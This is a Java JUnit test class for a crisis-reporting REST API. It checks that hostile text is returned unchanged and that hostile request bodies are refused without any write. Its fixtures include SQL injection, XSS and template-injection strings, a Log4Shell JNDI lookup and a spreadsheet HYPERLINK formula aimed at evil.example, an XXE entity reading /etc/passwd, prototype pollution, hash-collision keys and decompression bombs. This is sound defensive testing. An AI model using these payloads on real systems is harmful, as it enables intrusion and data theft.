package org.isnad;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.isnad.Api.V1;
import static org.isnad.Api.get;
import static org.isnad.Api.json;
import static org.isnad.Api.newCrisis;
import static org.isnad.Api.newRecord;
import static org.isnad.Api.writing;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/** What is sent to do harm: as a text it comes back as it was sent, as a body it is refused, and nothing is written by it. */
@QuarkusTest
class HostileTextTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();

    private String crisis;
    private String record;

    @BeforeEach
    void make() {
        crisis = newCrisis();
        record = newRecord(crisis, "kz-mvd", "2022-01-05", 8);
    }

    @ParameterizedTest
    @ValueSource(strings = { "السلطات'; drop table revision; --", "مقتل 164 شخصا\" or \"\"=\"",
            "السلطات' union select hash from api_key --",
            "<script>alert('كازاخستان')</script>", "<img src=x onerror=alert(1)>المتظاهرون", "&lt;b&gt;المحتجون&amp;",
            "]]><!--المحتجون-->",
            "{{7*7}}${7*7}#{7*7}المحتجون", "${jndi:ldap://evil.example/a} السلطات",
            "=HYPERLINK(\"http://evil.example\";\"القتلى\")",
            "@SUM(1+1)القتلى", "\u202Eالقتلى\u202C 18 \u2066kills\u2069", "أَلْمَاآتَا \u0640\u0640 ألماآتا",
            "\u200Fالقتلى\u200E 18\u061C",
            "القتلى\u200B\u200C\u200D\uFEFF", "👩‍👩‍👧‍👦🇰🇿 القتلى", "ﷺ ﷲ ﺍﻟﻘﺘﻠﻰ", "القتلى\n\tسطر ثان\n",
            "Z̸̢̛a̷l̶g̴o̵ القتلى", "\u0417\u0430 \u0418\u0306\u0435\u043C\u0435\u043D",
            "\u0636\u0628\u0651\u064E\u0627\u0637 \u0627\u0654\u0645\u0633", "قـــتـــلى ١٨ ۱۸ 18",
            "%0d%0aSet-Cookie: a=b القتلى", "\\u0000 \\x00 القتلى", "القتلى\u2028\u2029", "\uD83D\uDE00\uD83D\uDE00 القتلى" })
    void aTextComesBackCodePointForCodePoint(String text) throws IOException {
        String body = MAPPER
                .writeValueAsString(Map.of("crisis", crisis, "source", "tass", "reportedAt", "2022-01-06", "content",
                        Map.of("speaker", Map.of("name", Map.of("ar", "الرئيس")), "topic", Map.of("ar", "المحتجون"), "wording",
                                Map.of("ar", text))));
        Response made = json(body).post(V1 + "/statements");
        made.then().statusCode(201);
        for (String path : List.of("/statements/" + made.path("record"), "/crises/" + crisis + "/feed?after=1",
                "/crises/" + crisis + "/timeline?kind=statement", "/crises/" + crisis + "/snapshot")) {
            Response answer = get(path);
            answer.then().statusCode(200).header("X-Content-Type-Options", "nosniff")
                    .header("Content-Security-Policy", "default-src 'none'; frame-ancestors 'none'");
            List<String> wordings = MAPPER.readTree(answer.asByteArray()).findValues("wording").stream()
                    .map(wording -> wording.path("ar").asText()).toList();
            assertTrue(wordings.contains(text), path);
        }
        String exported = get("/crises/" + crisis + "/export").asString();
        assertEquals(4, exported.lines().filter(line -> !line.contains("\"type\":\"source\"")).count());
        for (String line : exported.lines().toList()) {
            assertTrue(MAPPER.readTree(line).isObject());
        }
        HashChain.verify(crisis);
    }

    @Test
    void aTableHoldsNoCellThatASpreadsheetWouldRun() {
        Response table = given().header("Accept", "text/csv").get(V1 + "/casualties/series?crisis=" + crisis);
        table.then().statusCode(200).contentType("text/csv");
        assertFalse(table.asString().lines().flatMap(line -> Stream.of(line.split(",")))
                .anyMatch(cell -> cell.matches("[=+@\t].*")));
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] gzip(int bytes) {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
                gzip.write(new byte[bytes]);
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A body, how it is said to be coded, and what is answered. */
    private record Hostile(String name, String type, String encoding, byte[] body, int status) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static final String REPORT = "{\"crisis\":\"CRISIS\",\"source\":\"tass\",\"reportedAt\":\"2022-01-06\",\"content\":{\"group\":"
            + "\"police\",\"measure\":\"killed\",\"place\":{\"name\":{\"en\":\"x\"}},\"best\":8}}";

    private static Hostile json400(String name, String body) {
        return new Hostile(name, "application/json", null, utf8(body), 400);
    }

    static Stream<Hostile> hostile() {
        List<Hostile> all = new ArrayList<>();
        String open = "{\"crisis\":\"CRISIS\",\"source\":\"tass\",\"reportedAt\":\"2022-01-06\",\"content\":";
        for (String coding : List.of("gzip", "br", "deflate", "zstd", "gzip, gzip", "identity, gzip")) {
            all.add(new Hostile("bomb said to be " + coding, "application/json", coding, gzip(50_000_000), 415));
        }
        all.add(new Hostile("bomb not said to be one", "application/json", null, gzip(50_000_000), 400));
        for (String charset : List.of("UTF-16BE", "UTF-16LE", "UTF-32BE", "windows-1251", "IBM037")) {
            all.add(new Hostile("in " + charset, "application/json", null,
                    REPORT.replace("\"x\"", "\"Казахстан\"").getBytes(Charset.forName(charset)), 400));
        }
        for (String bad : List.of("\u00C0\u00AF", "\u00E0\u0080\u0080", "\u00F8\u0088\u0080\u0080\u0080", "\u00ED\u00A0\u0080",
                "\u00FF")) {
            all.add(new Hostile("malformed UTF-8", "application/json", null,
                    REPORT.replace("\"x\"", "\"" + bad + "\"").getBytes(StandardCharsets.ISO_8859_1), 400));
        }
        for (String type : List.of("text/plain", "application/xml", "multipart/form-data; boundary=x",
                "application/x-www-form-urlencoded", "application/yaml", "application/x-java-serialized-object", "text/html")) {
            all.add(new Hostile("as " + type, type, null, utf8(REPORT), 415));
        }
        Stream.of("{\"a\":", "[", "{\"content\":[", "{\"content\":{\"place\":{\"name\":", "{\"evidence\":[[")
                .forEach(part -> all.add(json400("deep " + part, part.repeat(20_000))));
        all.add(json400("an entity",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"));
        for (String number : List.of("1e999999999", "1E-999999999", "9".repeat(1000), "-1", "0x10", "1.5", "NaN", "Infinity",
                "+1",
                "\"8\"", "08", "1_000")) {
            all.add(json400("number " + number.substring(0, Math.min(12, number.length())),
                    REPORT.replace(":8", ":" + number)));
        }
        all.add(json400("a class to make", open + "{\"@class\":\"java.net.URL\",\"@type\":\"x\"}}"));
        all.add(json400("a prototype", REPORT.replaceFirst("\\{", "{\"__proto__\":{\"admin\":true},")));
        all.add(json400("a constructor", REPORT.replaceFirst("\\{", "{\"constructor\":{\"prototype\":{}},")));
        all.add(json400("a field twice", REPORT.replaceFirst("\\{", "{\"source\":\"gsv\",")));
        all.add(json400("a field twice, once escaped", REPORT.replaceFirst("\\{", "{\"s\\\\u006furce\":\"gsv\",")));
        all.add(json400("many fields", REPORT.replaceFirst("\\{",
                "{" + String.join("", IntStream.range(0, 40_000).mapToObj(n -> "\"f" + n + "\":0,").toList()))));
        all.add(json400("colliding fields", REPORT.replaceFirst("\\{",
                "{" + String.join("", IntStream.range(0, 4096).mapToObj(HostileTextTest::colliding).toList()))));
        all.add(json400("a long name", REPORT.replaceFirst("\\{", "{\"" + "n".repeat(900_000) + "\":0,")));
        all.add(json400("a long list", REPORT.replaceFirst("\\{", "{\"via\":[" + "\"tass\",".repeat(100_000) + "\"tass\"],")));
        all.add(json400("comments", "/* a */" + REPORT + "// b"));
        all.add(json400("more after it", REPORT + REPORT));
        all.add(json400("loose quotes", REPORT.replace('"', '\'')));
        all.add(json400("a comma too many", REPORT.replace("}}", ",}}")));
        all.add(json400("a control character", REPORT.replace("\"x\"", "\"\\u0000\"")));
        all.add(new Hostile("too long", "application/json", null, utf8(" ".repeat(1_100_000) + REPORT), 413));
        return all.stream();
    }

    /** One of the names that Java's hash of strings makes all the same. */
    private static String colliding(int number) {
        StringBuilder name = new StringBuilder("\"");
        for (int bit = 0; bit < 12; bit++) {
            name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
        }
        return name + "\":0,";
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void aHostileBodyIsRefusedAndNothingIsWritten(Hostile hostile) {
        byte[] body = new String(hostile.body, StandardCharsets.ISO_8859_1).replace("CRISIS", crisis)
                .getBytes(StandardCharsets.ISO_8859_1);
        var request = writing().config(io.restassured.RestAssured.config().encoderConfig(
                io.restassured.config.EncoderConfig.encoderConfig().appendDefaultContentCharsetToContentTypeIfUndefined(false)
                        .encodeContentTypeAs(hostile.type.replaceFirst(";.*", ""), io.restassured.http.ContentType.TEXT)));
        if (hostile.encoding != null) {
            request.header("Content-Encoding", hostile.encoding);
        }
        Response answer = request.header("Content-Type", hostile.type).body(body).post(V1 + "/casualties");
        answer.then().statusCode(hostile.status).contentType("application/problem+json");
        for (String inside : List.of("org.isnad", "java.", "Exception", "hibernate", "fasterxml", "root:")) {
            assertFalse(answer.asString().contains(inside), answer.asString());
        }
        assertTrue(answer.asString().length() < 20_000, "an answer as long as the question");
        get("/crises/" + crisis).then().body("position", equalTo(1));
    }

    @Test
    void thereAreAtLeastFiftyTwoOfThem() {
        assertTrue(hostile().count() >= 52, () -> hostile().count() + "");
    }

    @ParameterizedTest
    @ValueSource(strings = { "\n", "{}\n", "\n\n\n\n{}", "{\"type\":\"end\",\"crisis\":\"x\",\"position\":9,\"head\":\"\"}",
            "{\"type\":\"revision\"}", "{\"type\":[]}", "{\"type\":\"crisis\"}\u0000", "[{\"type\":\"crisis\"}]", "\u2028",
            "null" })
    void aHostileImportIsRefusedByItsLine(String lines) {
        writing().contentType("application/x-ndjson").body(utf8(lines)).post(V1 + "/import").then().statusCode(400)
                .contentType("application/problem+json");
        writing().contentType("application/x-ndjson").body(utf8((lines + "\n").repeat(50_000))).post(V1 + "/import").then()
                .statusCode(400);
    }
}
